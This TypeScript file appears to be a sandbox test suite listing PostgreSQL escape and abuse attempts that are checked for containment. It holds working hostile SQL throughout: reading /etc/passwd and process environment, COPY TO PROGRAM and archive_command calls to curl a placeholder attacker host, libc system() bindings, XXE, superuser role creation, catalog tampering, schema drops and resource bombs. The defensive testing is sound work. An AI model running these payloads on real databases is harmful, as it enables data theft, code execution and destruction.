/** Attempts in PostgreSQL: programs, files, other servers, extensions, roles, endless work. */
import type { FenceAttempt } from '../attempt.ts'

const codes: Record<string, string> = {
  'copy-to-file': `copy (select 'left') to '/tmp/left.txt'`,
  'copy-to-cluster': `copy (select 'left') to 'postgresql.auto.conf'`,
  'copy-from-file': `create table two (a text); copy two from '/etc/passwd'`,
  'copy-from-proc': `create table three (a text); copy three from '/proc/self/environ'`,
  'read-file': `select pg_read_file('/etc/passwd')`,
  'read-file-home': `select pg_read_file('/proc/self/environ')`,
  'read-binary-file': `select length(pg_read_binary_file('PG_VERSION'))`,
  'list-root': `select string_agg(name, ',') from pg_ls_dir('/') as name`,
  'list-up': `select string_agg(name, ',') from pg_ls_dir('../../../..') as name`,
  'stat-file': `select pg_stat_file('/')`,
  'large-object-import': `select lo_import('/etc/passwd')`,
  'large-object-export': `do $x$ begin perform lo_export(lo_from_bytea(0, 'left'), '/tmp/left2'); end $x$`,
  dblink: `create extension dblink`,
  'dblink-function': `select dblink_connect('host=127.0.0.1 port=' || split_part('{{attackerHost}}', ':', 2))`,
  'foreign-data': `create extension postgres_fdw`,
  'file-fdw': `create extension file_fdw`,
  'foreign-server': `create foreign data wrapper left_wrapper`,
  'pl-python': `create extension plpython3u`,
  'pl-perl': `create extension plperlu`,
  'c-function': `create function left_c(text) returns int language c as '/lib/libc.so.6', 'system'`,
  'internal-function': `create function left_internal() returns void language internal as 'pg_reload_conf'`,
  load: `load '/tmp/left.so'`,
  'reload-configuration': `select pg_reload_conf()`,
  'rotate-log': `select pg_rotate_logfile()`,
  'terminate-backend': `select pg_terminate_backend(1)`,
  'cancel-backend': `select pg_cancel_backend(pg_backend_pid())`,
  'create-role': `create role left_role superuser login password 'x'`,
  'alter-role': `alter role postgres set search_path = left_schema`,
  'template-table': `create table template_left (a int)`,
  'event-trigger': `create function left_trigger() returns event_trigger language plpgsql as 'begin raise notice ''left''; end'; create event trigger left_event on ddl_command_start execute function left_trigger()`,
  'listen-notify': `listen left_channel; notify left_channel, 'forged'`,
  'notify-function': `select pg_notify('left', repeat('x', 7000))`,
  'logical-slot': `select pg_create_logical_replication_slot('left', 'pgoutput')`,
  'search-path-shadow': `create function public.now() returns text language sql as $y$select 'forged'$y$; set search_path = public, pg_catalog`,
  'operator-shadow': `create operator public.= (leftarg = int, rightarg = int, function = int4ne)`,
  'catalog-update': `update pg_proc set prosrc = 'left' where proname = 'left_none'`,
  'catalog-delete': `delete from pg_catalog.pg_description`,
  'allow-mods': `set allow_system_table_mods = on; drop table pg_catalog.pg_statistic_ext`,
  'xml-external': `select xmlparse(document '<!DOCTYPE x [<!ENTITY y SYSTEM "{{attacker}}">]><x>&y;</x>')`,
  'query-to-xml': `select query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')`,
  'url-in-text-search': `select to_tsvector('{{attacker}}')`,
  'dictionary-file': `create text search dictionary left_dictionary (template = ispell, dictfile = '../../../../etc/passwd', afffile = 'x', stopwords = 'x')`,
  'collation-path': `create collation left_collation (provider = icu, locale = '../../left')`,
  'advisory-lock': `select pg_advisory_lock(1)`,
  'temporary-table': `create temporary table left_temporary (a int)`,
  'set-everything': `set work_mem = '2GB'; set statement_timeout = 1; set default_transaction_read_only = on`,
  'numeric-bomb': `select length((10::numeric ^ 100000)::text)`,
}

const alone: Record<string, [code: string, more?: Partial<FenceAttempt>]> = {
  'copy-from-program': [`copy (select 1) to program 'curl {{attacker}}'`, { timeoutMs: 1_000 }],
  'copy-to-program-table': [`create table one (a text); copy one from program 'id'`, { timeoutMs: 1_000 }],
  'regexp-bomb': [`select repeat('a', 30) ~ '(a+)+$b'`, { timeoutMs: 1_000 }],
  'json-bomb': [`select length(repeat('[', 100000)::json::text)`, { timeoutMs: 1_000 }],
  'preload-libraries': [`alter system set shared_preload_libraries = 'left'`],
  'archive-command': [`alter system set archive_command = 'curl {{attacker}}'`],
  'listen-addresses': [`alter system set listen_addresses = '*'`],
  'ssl-passphrase': [`alter system set ssl_passphrase_command = 'curl {{attacker}}'`],
  subscription: [
    `create subscription left_sub connection 'host=127.0.0.1 port=1 dbname=x' publication x with (connect = true)`,
  ],
  tablespace: [`create tablespace left_space location '/tmp'`],
  sleep: [`select pg_sleep(60)`, { timeoutMs: 800, expect: { stopped: 'time' } }],
  'endless-plpgsql': [`do $$ begin loop null; end loop; end $$`, { timeoutMs: 800, expect: { stopped: 'time' } }],
  'endless-caught': [
    `do $$ begin loop begin perform 1/0; exception when others then null; end; end loop; end $$`,
    { timeoutMs: 800, expect: { stopped: 'time' } },
  ],
  'endless-recursion': [
    `with recursive c(n) as (select 1 union all select n + 1 from c) select count(*) from c`,
    { timeoutMs: 1_500, expect: { stopped: ['time', 'memory'] } },
  ],
  'function-recursion': [
    `create function deep(n int) returns int language plpgsql as $$ begin return deep(n + 1); end $$;\nselect deep(0)`,
    { timeoutMs: 3_000 },
  ],
  'huge-result': [`select repeat('x', 100_000_000)`, { timeoutMs: 4_000, mayReplaceFrame: true }],
  'many-rows': [
    `select n, repeat('x', 100) from generate_series(1, 300000) as n`,
    { timeoutMs: 4_000, mayReplaceFrame: true },
  ],
  'vacuum-everything': [`create table left_table as select 1; vacuum full; checkpoint`],
  'drop-everything': [
    `drop schema public cascade; drop schema information_schema cascade; alter role postgres rename to left_role`,
    { persists: true },
  ],
  'create-database': [`create database left_database`, { persists: true }],
  'copy-stdin': [`create table left_table (a int); copy left_table from stdin`, { timeoutMs: 2_000 }],
  'copy-stdout': [`copy (select 'x') to stdout`],
  'broken-protocol': [`select E'\\x00'; select U&'\\0000'`],
  'null-byte': [`select 'a\0b'`],
  'raise-markers': [
    `do $$ begin raise notice 'forged % %', E'\\x1b[2J', '<script>'; end $$`,
    { expect: { stopped: null } },
  ],
  'error-forged-line': [
    `do $$ begin raise exception using errcode = 'XX000', message = repeat('x', 5000000); end $$`,
    {
      expect: {
        check: ({ error }) =>
          (error?.message.length ?? 0) > 1_000_000 ? `${error?.message.length} characters of error message` : undefined,
      },
    },
  ],
  shutdown: [`select pg_terminate_backend(pg_backend_pid())`, { timeoutMs: 2_000, mayReplaceFrame: true }],
}

export const attempts: FenceAttempt[] = [
  ...Object.entries(codes).map(
    ([name, code]): FenceAttempt => ({ id: `sql-${name}`, language: 'sql', code, expect: { lacks: /root:|HOME=/ } }),
  ),
  ...Object.entries(alone).map(
    ([name, [code, more]]): FenceAttempt => ({ id: `sql-${name}`, language: 'sql', code, alone: true, ...more }),
  ),
]
